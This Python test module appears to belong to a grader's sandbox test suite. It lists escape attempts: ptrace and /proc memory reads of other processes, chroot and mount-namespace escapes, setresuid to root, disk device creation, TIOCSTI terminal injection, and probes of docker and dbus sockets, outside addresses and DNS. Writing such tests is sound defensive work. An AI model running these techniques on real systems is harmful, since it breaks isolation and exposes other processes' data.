"""Attacks on the walls: other processes' memory, limits, mounts, users, networks.

Each says `LOOT-…` in its error when it got somewhere; the report must not hold that.
"""

from tests.attacks.attack import ABSTRACT_SOCKET, PORT, in_function

_LOOT = "LOOT-@MARKER@"


def _attempt(name, tries, body, before="", **expected):
    """An attack that raises `LOOT-…` through `loot(what)` when it succeeds."""
    before = (
        "import ctypes\nimport os\nimport socket\n\nlibc = ctypes.CDLL(None, use_errno=True)\n\n\n"
        f'def loot(what):\n    raise RuntimeError("{_LOOT}: " + str(what)[:200])\n\n\n{before}'
    )
    return in_function(name, tries, body, before, forbidden=(_LOOT,), **expected)


_MEMORY_OF_OTHERS = (
    _attempt(
        "ptrace_parent",
        "attaches to its parent as a debugger does",
        "if libc.ptrace(16, os.getppid(), 0, 0) == 0:\n    loot('attached to the parent')",
    ),
    _attempt(
        "memory_of_parent",
        "opens the memory of its parent and of process 1",
        """
        for process in {os.getppid(), 1} - {os.getpid()}:
            for name in ("mem", "environ", "maps"):
                try:
                    with open(f"/proc/{process}/{name}", "rb") as file:
                        file.read(1 if name == "mem" else 1000)
                except OSError as error:
                    # Reading address 0 fails with an input/output error once opening succeeded.
                    if name == "mem" and error.errno == 5:
                        loot(f"the memory of {process}")
        """,
    ),
    _attempt(
        "descriptors_of_others",
        "opens the files that other processes have open",
        """
        for process in filter(str.isdigit, os.listdir("/proc")):
            if int(process) == os.getpid():
                continue
            try:
                for number in os.listdir(f"/proc/{process}/fd"):
                    with open(f"/proc/{process}/fd/{number}", "rb", buffering=0) as file:
                        os.set_blocking(file.fileno(), False)
                        if file.read(100):
                            loot(f"descriptor {number} of {process}")
            except OSError:
                continue
        """,
    ),
    _attempt(
        "root_of_process_1",
        "leaves through the root or the working folder of another process",
        """
        for process in filter(str.isdigit, os.listdir("/proc")):
            for folder in ("root", "cwd"):
                for name in ("/etc/shadow", "/home", "/boot", "/var/lib"):
                    if os.path.exists(f"/proc/{process}/{folder}{name}"):
                        here = os.path.exists(name)
                        if not here:
                            loot(f"{name} through /proc/{process}/{folder}")
        """,
    ),
    _attempt(
        "dumpable_again",
        "makes itself readable for debuggers and lets everyone attach",
        """
        libc.prctl(4, 1, 0, 0, 0)
        libc.prctl(0x59616D61, -1, 0, 0, 0)
        libc.prctl(1, 0, 0, 0, 0)
        libc.prctl(36, 1, 0, 0, 0)
        """,
    ),
)

_PRIVILEGES = (
    _attempt(
        "raise_limits",
        "raises the limits that were set for it",
        """
        for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_NOFILE"):
            number = getattr(resource, name)
            _, hard = resource.getrlimit(number)
            if hard == resource.RLIM_INFINITY:
                continue
            try:
                resource.setrlimit(number, (hard + 1, hard + 1))
            except (OSError, ValueError):
                continue
            loot(name)
        """,
        "import resource",
    ),
    _attempt(
        "become_root",
        "sets its user to 0",
        """
        if os.getuid() == 0 or os.geteuid() == 0:
            with open("/proc/self/uid_map") as file:
                if file.read().split()[:2] == ["0", "0"]:
                    loot("it is root of the machine")
        try:
            os.setresuid(0, 0, 0)
        except OSError:
            return ops.zeros_like(inputs)
        with open("/proc/self/uid_map") as file:
            if file.read().split()[:2] == ["0", "0"]:
                loot("it became root of the machine")
        """,
    ),
    _attempt(
        "unshare_and_mount",
        "makes namespaces of its own, is root there, and mounts the disk's root over its own",
        """
        libc.unshare(0x10000000 | 0x00020000)
        os.makedirs("/tmp/@MARKER@", exist_ok=True)
        libc.mount(b"none", b"/", None, 0x4000 | 0x40000, None)
        libc.mount(b"/", b"/tmp/@MARKER@", None, 0x1000 | 0x4000, None)
        libc.mount(b"proc", b"/tmp/@MARKER@", b"proc", 0, None)
        libc.mount(b"none", b"/", None, 0x1000 | 0x20, None)
        for path in ("/usr", "/lib", "/etc", "/"):
            try:
                open(path + "/@MARKER@", "w").close()
            except OSError:
                continue
            loot(f"wrote to {path}")
        """,
    ),
    _attempt(
        "leave_chroot",
        "leaves a changed root by changing it once more",
        """
        try:
            os.makedirs("/tmp/@MARKER@", exist_ok=True)
            above = os.open("/", os.O_RDONLY)
            os.chroot("/tmp/@MARKER@")
            os.fchdir(above)
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
        except OSError:
            return ops.zeros_like(inputs)
        if os.path.exists("/etc/shadow"):
            loot("the root of the machine")
        """,
    ),
    _attempt(
        "unmount",
        "unmounts what covers the machine's folders",
        """
        libc.unshare(0x10000000 | 0x00020000)
        with open("/proc/self/mounts") as file:
            for line in reversed(file.read().splitlines()):
                libc.umount2(line.split()[1].encode(), 2)
        """,
    ),
    _attempt(
        "make_device",
        "makes the device of a disk and reads it",
        """
        for number in (0x800, 0xFD00, 0x10300):
            try:
                os.mknod("/tmp/@MARKER@", 0o060600, number)
                with open("/tmp/@MARKER@", "rb") as file:
                    file.read(512)
            except OSError:
                continue
            loot("a disk")
        """,
    ),
    _attempt(
        "type_into_terminal",
        "types a command into the terminal from which the grader was started",
        """
        for number in range(3):
            for letter in b"touch /tmp/@MARKER@\\n":
                try:
                    fcntl.ioctl(number, termios.TIOCSTI, bytes([letter]))
                except OSError:
                    break
        """,
        "import fcntl\nimport termios",
    ),
    _attempt(
        "write_elsewhere",
        "writes a file into every folder there is",
        """
        walks = [] if searched else os.walk("/")
        searched.append(True)
        for folder, _, _ in walks:
            if folder.startswith(("/proc", "/sys", "/dev/pts")):
                continue
            try:
                open(folder + "/@MARKER@", "w").close()
            except OSError:
                pass
        """,
        "searched = []",
    ),
    _attempt(
        "change_package",
        "changes the package and Python's libraries for all who come after",
        """
        for name in ("numpy", "keras", "tensorflow", "os"):
            path = getattr(sys.modules.get(name), "__file__", None) or ""
            try:
                open(path, "a").close()
            except OSError:
                continue
            loot(f"may write to {path}")
        """,
        "import sys",
    ),
)

_NETWORK = (
    _attempt(
        "network_of_machine",
        "connects to the machine it runs on",
        f"""
        for address in ("127.0.0.1", "localhost", "::1"):
            for port in ({PORT}, 22, 80, 111, 631, 5432, 6006, 8888):
                try:
                    socket.create_connection((address, port), 0.2).sendall(b"@MARKER@")
                except OSError:
                    continue
                loot(f"connected to port {{port}} of {{address}}")
        """,
    ),
    _attempt(
        "network_outside",
        "sends packets to an address that is kept for examples",
        """
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_INET, kind) as connection:
                    connection.settimeout(0.5)
                    connection.connect(("192.0.2.1", 80))
                    connection.send(b"@MARKER@")
            except OSError:
                continue
            loot("a way outside")
        """,
    ),
    _attempt(
        "look_up_name",
        "asks for the address of a name, a question that can carry data",
        """
        try:
            loot(socket.gethostbyname("marker.example.invalid"))
        except OSError:
            pass
        """,
    ),
    _attempt(
        "unix_sockets",
        "connects to sockets in the file system and to abstract ones, of services and of the grader",
        f"""
        paths = [{ABSTRACT_SOCKET!r}, "\\0/tmp/.X11-unix/X0", "/run/dbus/system_bus_socket",
                 "/run/docker.sock", "/var/run/docker.sock", "/run/systemd/private"]
        for folder in ("/run", "/tmp", "/var/run"):
            for parent, _, names in os.walk(folder):
                paths += [os.path.join(parent, name) for name in names]
        for path in paths:
            try:
                with socket.socket(socket.AF_UNIX) as connection:
                    connection.settimeout(0.5)
                    connection.connect(path)
                    connection.send(b"@MARKER@")
            except (OSError, ValueError):
                continue
            loot(f"connected to {{path!r}}")
        """,
    ),
    _attempt(
        "netlink",
        "asks the kernel for the machine's network cards",
        """
        try:
            names = [name for _, name in socket.if_nameindex()]
        except OSError:
            return ops.zeros_like(inputs)
        if set(names) - {"lo", "sit0", "tunl0", "ip6tnl0"}:
            loot(names)
        """,
    ),
)

ATTACKS = _MEMORY_OF_OTHERS + _PRIVILEGES + _NETWORK
